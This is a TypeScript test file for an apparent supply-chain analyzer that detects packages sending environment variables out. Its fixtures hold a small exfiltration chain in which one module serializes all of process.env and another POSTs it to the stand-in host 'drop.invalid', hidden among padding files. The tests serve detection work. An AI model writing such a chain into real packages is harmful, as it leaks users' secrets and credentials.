import { test } from 'uvu'
import * as assert from 'uvu/assert'
import { analyze } from '../../src/analyze/analyze.ts'
import { packageOf } from './source.ts'
import { speaking } from './speaking.ts'

/** Honest code that reads variables and loads nothing, of some characters. */
const padding = (characters: number, kind = '') =>
  `exports.pad = (a, b) => a + b${kind}\n`.repeat(Math.ceil(characters / (29 + kind.length)))

const collect = 'module.exports = () => JSON.stringify(process.env)'
const send = `module.exports = (body) => fetch('https://drop.invalid', { method: 'POST', body })`
const main = `const send = require('./send'), collect = require('./collect'); send(collect())`

const judged = (files: Readonly<Record<string, string>>) => {
  const { signals, gaps } = analyze(packageOf({}, files))
  const sent = signals.filter(({ kind, args }) => kind === 'flow/send' && (args['from'] as string[]).includes('env'))
  return { sent: sent.length, gaps: gaps.map(({ why }) => why) }
}
const required = (count: number) =>
  Array.from({ length: count }, (_, index) => `require('./pad${index}.js')`).join('; ')

test('honest code beside what collects and sends is no way around', () => {
  const pads = Object.fromEntries(Array.from({ length: 90 }, (_, index) => [`pad${index}.js`, padding(9_000)]))
  const files = { ...pads, 'index.js': `${required(90)}; ${main}`, 'collect.js': collect, 'send.js': send }
  assert.equal(judged(files), { sent: 1, gaps: [] })
})

test('many small files, and files that name variables', () => {
  const text = 'exports.level = () => process.env.LEVEL'
  const pads = Object.fromEntries(Array.from({ length: 150 }, (_, index) => [`pad${index}.js`, text]))
  const files = { ...pads, 'index.js': `${main}; ${required(150)}`, 'collect.js': collect, 'send.js': send }
  assert.is(judged(files).sent, 1)
})

test('a file that is too large to be read with others is told, and asked about where it may carry something off', () => {
  const files = { 'index.js': main, 'collect.js': collect, 'send.js': `${send}\n${padding(700_000)}` }
  const { gaps } = judged(files)
  assert.is(gaps.length, 1)
  assert.match(gaps[0] as string, /^what send\.js hands to other files was not followed/)
  assert.equal(
    speaking({ files }).map(({ id }) => id),
    ['code/unread'],
  )
})

test('the same of a file that only hands on', () => {
  const through = `module.exports = require('./collect')\n${padding(700_000)}`
  const files = { 'index.js': main.replace('./collect', './through'), 'collect.js': collect, 'send.js': send }
  assert.is(judged(files).sent, 0)
  assert.match(judged({ ...files, 'through.js': through }).gaps[0] as string, /through\.js/)
})

test('a large package that sends nothing by itself has no gap', () => {
  const files = {
    'index.js': `${main.replace('send(collect())', 'exports.run = () => send(collect())')}; ${required(1)}`,
    'collect.js': 'module.exports = () => process.env.LEVEL',
    'send.js': send,
    'pad0.js': padding(700_000, ' + process.env.HOME'),
  }
  assert.equal(judged(files), { sent: 0, gaps: [] })
  assert.equal(speaking({ files }), [])
})

test.run()
